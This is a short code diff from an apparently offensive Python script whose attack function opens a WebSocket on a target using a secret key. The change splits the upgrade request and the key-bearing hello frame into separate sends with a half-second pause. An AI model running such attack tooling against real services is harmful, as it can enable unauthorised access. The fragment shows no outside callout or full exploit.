@@ -22,7 +22,9 @@ async def attack(target: Target) -> None:
             secret = made["keys"][0]["secret"]
             hello = frame(json.dumps({"kind": "hello", "secret": secret}).encode())
             head = line.request("GET", f"/ws/{made['table']}", *words, "Sec-WebSocket-Version: 13")
-            await line.send(head + hello)
+            await line.send(head)
+            await asyncio.sleep(0.5)
+            await line.send(hello)
             message = frame(b'{"kind":"touch"}')
         else:
             message = line.request("GET", "/api/openapi.json")
